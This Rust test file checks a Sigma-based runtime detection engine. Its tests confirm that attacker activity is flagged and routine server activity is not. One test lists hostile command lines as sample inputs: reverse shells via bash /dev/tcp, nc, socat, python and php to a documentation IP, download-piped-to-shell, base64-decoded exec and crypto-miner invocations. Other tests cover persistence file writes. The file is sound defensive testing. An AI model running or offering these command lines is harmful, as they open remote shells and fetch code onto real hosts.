//! What each built-in rule hits, and that ordinary life hits none that matters.

use datasets::{Common, Container, Event, FileEvent, NetworkEvent, Origin, Process, ProcessEvent};
use record_bpf::Kind;

use rsigma_parser::parse_sigma_yaml;

use super::*;
use crate::engines::built_in::BUILT_IN;
use crate::engines::rules_load::{State, rule_files};

fn common(kind: Kind) -> Common {
    Common { ts: 0, cpu: 0, seq: 0, kind, container: Some("c".into()), pid: 1, tid: 1, exec_id: Some(1) }
}

/// Splits a command line at spaces, with the last `'…'` part as one argument.
fn argv(line: &str) -> Vec<Arc<str>> {
    let (plain, quoted) = match line.split_once(" '") {
        Some((plain, rest)) => (plain, rest.strip_suffix('\'')),
        None => (line, None),
    };
    plain.split(' ').chain(quoted).map(Into::into).collect()
}

fn process(exe: &str, line: &str) -> Process {
    Process {
        exec_id: 1,
        parent_exec_id: Some(2),
        prev_exec_id: None,
        origin: Origin::Exec,
        container: Some("c".into()),
        pid: 1,
        ns_pid: None,
        start: None,
        end: None,
        exe: Some(exe.into()),
        argv: Some(argv(line)),
        cwd: None,
        comm: None,
        uid: Some(0),
        gid: Some(0),
        exe_memfd: false,
        exe_deleted: false,
        argv_truncated: false,
        exit_code: None,
        exit_signal: None,
    }
}

fn exec(exe: &str, line: &str) -> ProcessEvent {
    ProcessEvent {
        parent_exec_id: Some(2),
        exe: Some(exe.into()),
        exe_memfd: Some(false),
        exe_deleted: Some(false),
        argv: Some(argv(line)),
        argv_truncated: Some(false),
        cwd: Some("/".into()),
        uid: Some(0),
        gid: Some(0),
        ..ProcessEvent::new(common(Kind::Exec))
    }
}

fn file(kind: Kind, path: &str, flags: u32, mode: u32) -> FileEvent {
    FileEvent {
        path: Some(path.into()),
        ret: 3,
        fd: Some(3),
        flags: Some(flags),
        mode: Some(mode),
        ..FileEvent::new(common(kind))
    }
}

fn connect(address: &str, port: u16) -> NetworkEvent {
    NetworkEvent {
        peer_addr: Some(address.into()),
        peer_port: Some(port),
        ret: -115,
        fd: 3,
        ..NetworkEvent::new(common(Kind::Connect), "inet", "tcp")
    }
}

fn peer(alias: &str) -> Container {
    Container {
        id: "p".into(),
        name: Some("peer-1".to_owned()),
        aliases: vec!["short".to_owned(), alias.to_owned()],
        ..Container::default()
    }
}

/// `title (level)` of each hit.
fn hits(
    event: Event,
    process: Option<&Process>,
    parent: Option<&Process>,
    peer: Option<&Container>,
) -> Vec<(String, Level)> {
    let engine = RuleEngine::load(None).unwrap();
    let view = EventView { process, parent, peer, ..EventView::new(&event) };
    let hits = engine.evaluate(&view);
    assert_eq!(hits, engine.evaluate(&view), "the remembered answer is the same");
    hits.into_iter().filter(|hit| !hit.silent).map(|hit| (hit.title.to_string(), hit.level)).collect()
}

fn exec_hits(parent: &str, parent_line: &str, exe: &str, line: &str) -> Vec<(String, Level)> {
    hits(Event::Process(exec(exe, line)), None, Some(&process(parent, parent_line)), None)
}

fn titles(hits: &[(String, Level)]) -> Vec<&str> {
    hits.iter().map(|(title, _)| title.as_str()).collect()
}

#[test]
fn the_folder_holds_the_built_in_rules_and_each_is_complete() {
    let folder = Path::new(env!("CARGO_MANIFEST_DIR")).join("rules");
    let mut names: Vec<_> =
        rule_files(&folder).unwrap().iter().map(|path| path.file_name().unwrap().to_owned()).collect();
    names.sort();
    let mut built_in: Vec<_> = BUILT_IN.iter().map(|(name, _)| std::ffi::OsString::from(name)).collect();
    built_in.sort();
    assert_eq!(names, built_in);
    let engine = RuleEngine::load(None).unwrap();
    assert!(engine.listed().iter().all(|listed| listed.state == State::Loaded), "{:?}", engine.listed());
    assert_eq!(engine.len(), engine.listed().len());
    assert!(engine.len() >= 40);
    for (name, text) in BUILT_IN {
        let warnings = rsigma_parser::lint::lint_yaml_str(text);
        assert!(warnings.is_empty(), "{name}: {warnings:?}");
        let documents = parse_sigma_yaml(text).unwrap();
        // Rules that only serve a correlation need no technique of their own.
        let (tags, id, level) = match documents.correlations.last() {
            Some(rule) => (&rule.tags, &rule.id, rule.level),
            None => (&documents.rules[0].tags, &documents.rules[0].id, documents.rules[0].level),
        };
        assert!(technique(tags).is_some() && id.is_some() && level.is_some(), "{name}");
    }
}

#[test]
fn what_attackers_run_is_hit() {
    let python = ("/usr/bin/python3.11", "python3 -m gunicorn app:app");
    for (exe, line, title) in [
        ("/usr/bin/sleep", "sleep -o stratum+tcp://xmr.example:1 -u W", "Cryptocurrency miner command line"),
        ("/opt/xmrig", "xmrig", "Cryptocurrency miner command line"),
        ("/srv/worker", "worker --coin monero -t 2", "Cryptocurrency miner command line"),
        ("/tmp/.x/a", "a", "Program run from a directory for temporary files"),
        ("/dev/shm/k", "k -d", "Program run from a directory for temporary files"),
        ("/usr/bin/curl", "curl -s -o /tmp/a http://203.0.113.9/a", "Download into a directory for temporary files"),
        ("/usr/bin/wget", "wget -qO /var/tmp/a https://x.example/a", "Download into a directory for temporary files"),
        ("/usr/bin/wget", "wget -P /dev/shm http://x.example/a", "Download into a directory for temporary files"),
        ("/bin/sh", "sh -c 'curl -fsSL http://x.example/i.sh | sh'", "Download piped into a shell"),
        ("/bin/bash", "bash -c 'wget -qO- x.example | sudo bash -s'", "Download piped into a shell"),
        ("/bin/bash", "bash -c 'bash <(curl -s x.example/i)'", "Download piped into a shell"),
        ("/bin/sh", "sh -c 'echo aWQK | base64 -d | sh'", "Decoded text piped into a shell"),
        (
            "/usr/bin/python3",
            "python3 -c 'import base64;exec(base64.b64decode(\"aQ==\"))'",
            "Decoded text piped into a shell",
        ),
        ("/bin/bash", "bash -c 'bash -i >& /dev/tcp/203.0.113.9/443 0>&1'", "Reverse shell"),
        ("/usr/bin/nc", "nc 203.0.113.9 9001 -e /bin/sh", "Reverse shell"),
        ("/usr/bin/ncat", "ncat --exec /bin/bash 203.0.113.9 9001", "Reverse shell"),
        (
            "/bin/sh",
            "sh -c 'rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc 203.0.113.9 9001 >/tmp/f'",
            "Reverse shell",
        ),
        ("/usr/bin/socat", "socat tcp:203.0.113.9:9001 exec:/bin/sh,pty,stderr", "Reverse shell"),
        (
            "/usr/bin/python3",
            "python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"x\",1));os.dup2(s.fileno(),0);pty.spawn(\"sh\")'",
            "Reverse shell",
        ),
        ("/usr/bin/php8.2", "php -r '$s=fsockopen(\"203.0.113.9\",1);exec(\"sh -i <&3\");'", "Reverse shell"),
        ("/usr/bin/dash", "sh -c 'ping -c1 a; id; uname -a'", "Reconnaissance chained onto an application command"),
        ("/usr/bin/dash", "sh -c 'stat $(whoami)'", "Reconnaissance chained onto an application command"),
        ("/bin/sh", "sh -c 'ls; cat /etc/passwd'", "Reconnaissance chained onto an application command"),
        ("/bin/sh", "sh -c 'date'", "Shell started by a web server"),
        ("/usr/bin/chmod", "chmod +x /tmp/a", "A file for temporary use is made executable by command"),
        ("/usr/bin/chmod", "chmod -R 0755 /dev/shm/a", "A file for temporary use is made executable by command"),
        ("/bin/sh", "sh -c 'cd /; chmod 777 /var/tmp/a'", "A file for temporary use is made executable by command"),
    ] {
        let hits = exec_hits(python.0, python.1, exe, line);
        assert!(titles(&hits).contains(&title), "{line}: {hits:?}");
    }
}

#[test]
fn a_program_without_a_file_is_hit_but_the_runtime_is_not() {
    let mut event = exec("/memfd:x (deleted)", "kworker");
    event.exe_memfd = Some(true);
    event.exe_deleted = Some(true);
    assert_eq!(titles(&hits(Event::Process(event), None, None, None)), ["Program run from memory"]);
    let mut event = exec("/memfd:runc_cloned:/proc/self/exe (deleted)", "runc init");
    event.exe_memfd = Some(true);
    assert!(hits(Event::Process(event), None, None, None).is_empty());
    let mut event = exec("/srv/a (deleted)", "a");
    event.exe_deleted = Some(true);
    assert_eq!(titles(&hits(Event::Process(event), None, None, None)), ["Program run from a deleted file"]);
}

#[test]
fn files_that_give_persistence_are_hit_when_written_and_not_when_read() {
    let sh = process("/bin/sh", "sh");
    let dpkg = process("/usr/bin/dpkg", "dpkg --configure");
    for (path, title) in [
        ("/etc/cron.d/x", "A scheduled job is written"),
        ("/var/spool/cron/crontabs/root", "A scheduled job is written"),
        ("/etc/ld.so.preload", "The dynamic loader's preload list is written"),
        ("/root/.ssh/authorized_keys", "An SSH login key is written"),
        ("/etc/passwd", "Accounts or privileges are written"),
        ("/etc/sudoers.d/x", "Accounts or privileges are written"),
    ] {
        let of = |event, process| hits(Event::File(event), Some(process), None, None);
        let written = of(file(Kind::Open, path, 0o1, 0), &sh);
        assert_eq!(titles(&written), [title]);
        assert!(written[0].1.is_high_confidence());
        assert!(of(file(Kind::Open, path, 0, 0), &sh).is_empty());
        let mut failed = file(Kind::Open, path, 0o1, 0);
        failed.ret = -13;
        assert!(of(failed, &sh).is_empty());
        let mut renamed = file(Kind::Rename, "/etc/new", 0, 0);
        renamed.new_path = Some(path.into());
        assert_eq!(titles(&of(renamed, &sh)), [title]);
    }
    assert!(hits(Event::File(file(Kind::Open, "/etc/cron.d/x", 0o1, 0)), Some(&dpkg), None, None).is_empty());
    let made = hits(Event::File(file(Kind::Chmod, "/tmp/a", 0, 0o755)), Some(&sh), None, None);
    assert_eq!(made, [("A file for temporary use becomes executable".to_owned(), Level::Low)]);
    assert!(hits(Event::File(file(Kind::Chmod, "/tmp/a", 0, 0o644)), Some(&sh), None, None).is_empty());
}

#[test]
fn pools_are_hit_by_name_and_more_weakly_by_port() {
    let of = |event, peer: Option<&Container>| hits(Event::Network(event), None, None, peer);
    let pool = peer("eu.supportxmr.com");
    assert_eq!(
        of(connect("198.51.100.7", 443), Some(&pool)),
        [("Connection to a known mining pool".to_owned(), Level::Critical)]
    );
    let port = "Connection to a port that mining pools use".to_owned();
    assert_eq!(of(connect("198.51.100.7", 14444), Some(&peer("cache.example"))), [(port, Level::Medium)]);
    assert!(of(connect("127.0.0.1", 3333), None).is_empty());
    let mut accepted = connect("198.51.100.7", 50_000);
    accepted.common.kind = Kind::Accept;
    accepted.ret = 5;
    accepted.local_port = Some(3333);
    assert!(of(accepted, Some(&pool)).is_empty());
}

#[test]
fn ordinary_life_hits_nothing_that_matters() {
    for (parent, parent_line, exe, line) in [
        ("/bin/sh", "sh /run.sh", "/usr/sbin/nginx", "nginx -g daemon off;"),
        ("/usr/sbin/nginx", "nginx: master process", "/usr/sbin/nginx", "nginx: worker process"),
        ("/usr/bin/runc", "runc init", "/usr/sbin/nginx", "nginx -s reload"),
        ("/usr/bin/runc", "runc init", "/usr/bin/curl", "curl -fsS -o /dev/null -m 3 http://127.0.0.1:8000/healthz"),
        ("/usr/bin/runc", "runc init", "/usr/bin/redis-cli", "redis-cli ping"),
        ("/usr/bin/runc", "runc init", "/bin/bash", "bash -c 'exec 3<>/dev/tcp/localhost/80; echo GET >&3'"),
        ("/usr/bin/runc", "runc init", "/usr/bin/timeout", "timeout 1 bash -c '</dev/tcp/127.0.0.1/5432'"),
        ("/usr/sbin/cron", "cron -f", "/bin/sh", "sh -c '/usr/sbin/logrotate /etc/logrotate.conf'"),
        ("/usr/sbin/cron", "cron -f", "/bin/sh", "sh -c 'test -x /usr/bin/x && id -u backup >/dev/null'"),
        ("/bin/sh", "sh -c /etc/cron.daily/x", "/usr/bin/gzip", "gzip -9 /var/log/nginx/access.log.1"),
        ("/bin/sh", "sh hourly.sh", "/usr/bin/find", "find /tmp -name *.tmp -mmin +60 -delete"),
        ("/bin/sh", "sh daily.sh", "/usr/bin/tar", "tar czf /var/backups/a.tgz /srv/app"),
        ("/usr/bin/python3.11", "python3 worker.py", "/bin/sh", "sh -c 'convert in.png -resize 100 out.png'"),
        ("/usr/bin/python3.11", "python3 worker.py", "/usr/bin/git", "git rev-parse HEAD"),
        ("/usr/bin/node", "node server.js", "/bin/sh", "sh -c 'uname -r'"),
        ("/bin/sh", "sh", "/usr/bin/chmod", "chmod 0644 /etc/nginx/conf.d/a.conf"),
        ("/bin/sh", "sh", "/usr/bin/chmod", "chmod 600 /tmp/key.pem"),
        ("/bin/sh", "sh", "/usr/bin/pip", "pip install --no-cache-dir -r requirements.txt"),
        (
            "/usr/bin/python3.11",
            "python3 worker.py",
            "/usr/bin/wget",
            "wget -q -O /srv/data/rates.json https://rates.example/a",
        ),
        ("/usr/lib/postgresql/15/bin/postgres", "postgres", "/bin/sh", "sh -c 'cp pg_wal/0001 /mnt/archive/0001'"),
        ("/bin/bash", "bash", "/usr/bin/java", "java -Xmx512m -jar app.jar --server.port=8080"),
        ("/tmp/x", "x", "/tmp/_MEI12345/tool", "tool run"),
    ] {
        let hits = exec_hits(parent, parent_line, exe, line);
        assert!(hits.is_empty(), "{line}: {hits:?}");
    }
    // What the application does through the shell is worth a note, and is learned.
    let hits = exec_hits("/usr/bin/python3.11", "python3 -m gunicorn app", "/bin/sh", "sh -c 'df -h | tail -n 1'");
    assert_eq!(hits, [("Shell started by a web server".to_owned(), Level::Medium)]);
    assert!(!Level::Medium.is_high_confidence());
    for path in
        ["/var/log/nginx/access.log", "/tmp/upload-1", "/srv/app/cache/a", "/var/lib/redis/dump.rdb", "/run/nginx.pid"]
    {
        assert!(self::hits(Event::File(file(Kind::Open, path, 0o1102, 0)), None, None, None).is_empty());
    }
    for port in [80, 443, 5432, 6379, 8000, 8080, 9000, 9090, 27017] {
        assert!(
            self::hits(Event::Network(connect("10.0.0.3", port)), None, None, Some(&peer("cache.example"))).is_empty()
        );
    }
}

#[test]
fn a_hit_says_why() {
    let engine = RuleEngine::load(None).unwrap();
    let event = Event::Process(exec("/srv/worker", "worker -o stratum+tcp://xmr.example:1"));
    let view = EventView::new(&event);
    let hit = engine.evaluate(&view).remove(0);
    assert_eq!(&*hit.reason, "Cryptocurrency miner command line: CommandLine worker -o stratum+tcp://xmr.example:1");
    let verdict = hit.verdict();
    assert_eq!(
        (verdict.technique.as_deref(), verdict.level, verdict.score),
        (Some("T1496"), Some(Level::Critical), 1.0)
    );
    assert_eq!(verdict.judge, *hit.id);
}

const USER_RULE: &str = "title: Mine\nid: 11111111-2222-4333-8444-555555555555\nlogsource: {category: process_creation}\n\
    detection: {a: {CommandLine|contains: frobnicate}, condition: a}\n";

#[test]
fn a_users_rules_are_added_and_replace_built_in_ones_of_the_same_id() {
    let folder = tempfile::tempdir().unwrap();
    let write = |name: &str, text: &str| std::fs::write(folder.path().join(name), text).unwrap();
    std::fs::create_dir(folder.path().join("sub")).unwrap();
    write("sub/mine.yaml", USER_RULE);
    write("notes.txt", "not a rule");
    write(
        "windows.yml",
        &USER_RULE.replace("{category: process_creation}", "{category: process_creation, product: windows}"),
    );
    write("sshd.yml", &USER_RULE.replace("{category: process_creation}", "{product: linux, service: sshd}"));
    let built_in = RuleEngine::load(None).unwrap().len();
    let engine = RuleEngine::load(Some(folder.path())).unwrap();
    assert_eq!(engine.len(), built_in + 1);
    let skipped = engine.listed().iter().filter(|listed| matches!(listed.state, State::Skipped { .. }));
    assert_eq!(skipped.count(), 2);
    let event = Event::Process(exec("/bin/a", "a frobnicate"));
    let view = EventView::new(&event);
    let hits = engine.evaluate(&view);
    assert_eq!((hits.len(), hits[0].level, hits[0].technique.as_deref()), (1, Level::Low, None));

    let id = parse_sigma_yaml(BUILT_IN[0].1).unwrap().rules[0].id.clone().unwrap();
    write("sub/mine.yaml", &USER_RULE.replace("11111111-2222-4333-8444-555555555555", &id));
    assert_eq!(RuleEngine::load(Some(folder.path())).unwrap().len(), built_in);
}

#[test]
fn a_keyword_rule_sees_every_field_and_is_not_remembered_wrongly() {
    let folder = tempfile::tempdir().unwrap();
    let rule =
        USER_RULE.replace("{a: {CommandLine|contains: frobnicate}, condition: a}", "{a: [secretword], condition: a}");
    std::fs::write(folder.path().join("a.yml"), rule).unwrap();
    let engine = RuleEngine::load(Some(folder.path())).unwrap();
    for (cwd, hit) in [("/", 0), ("/srv/secretword", 1), ("/", 0)] {
        let mut event = exec("/bin/a", "a");
        event.cwd = Some(cwd.into());
        let event = Event::Process(event);
        let view = EventView::new(&event);
        let mine = engine.evaluate(&view).iter().filter(|found| &*found.title == "Mine").count();
        assert_eq!(mine, hit, "{cwd}");
    }
}

#[test]
fn fields_that_no_event_has_are_listed_by_rule() {
    let folder = tempfile::tempdir().unwrap();
    let detection = "{a: {Image|endswith: /x, Hashes|contains: [MD5=1]}, b: [{OriginalFileName: y}, {LogonId: 3, User: root}], \
        c: [word], condition: a or b or c}";
    let rule = USER_RULE.replace("{a: {CommandLine|contains: frobnicate}, condition: a}", detection);
    std::fs::write(folder.path().join("a.yml"), rule).unwrap();
    let engine = RuleEngine::load(Some(folder.path())).unwrap();
    let unmapped: Vec<_> = engine.listed().iter().filter(|listed| listed.state != State::Loaded).collect();
    let [unmapped] = unmapped[..] else { panic!("{unmapped:?}") };
    let names = ["Hashes", "LogonId", "OriginalFileName"].map(str::to_owned).to_vec();
    assert_eq!((unmapped.title.as_str(), &unmapped.state), ("Mine", &State::Partly { unmapped: names, note: None }));
    assert!(unmapped.file.ends_with("a.yml"));
}

#[test]
fn a_bad_rule_is_named() {
    let folder = tempfile::tempdir().unwrap();
    for text in [
        "title: x\nlogsource: {category: process_creation}\n",
        ": : :\n\t",
        "title: x\nlogsource: {category: process_creation}\ndetection: {a: {CommandLine|re: '('}, condition: a}\n",
        "title: x\nlogsource: {category: process_creation}\ndetection: {a: {CommandLine|contains: x}, condition: b}\n",
    ] {
        std::fs::write(folder.path().join("broken.yml"), text).unwrap();
        let error = RuleEngine::load(Some(folder.path())).map(|_| ()).unwrap_err().to_string();
        assert!(error.contains("broken.yml") && !error.contains('\n'), "{error}");
    }
    let error = RuleEngine::load(Some(Path::new("/nonexistent"))).map(|_| ()).unwrap_err().to_string();
    assert!(error.contains("/nonexistent"), "{error}");
}

#[path = "rules_cases.rs"]
mod cases;
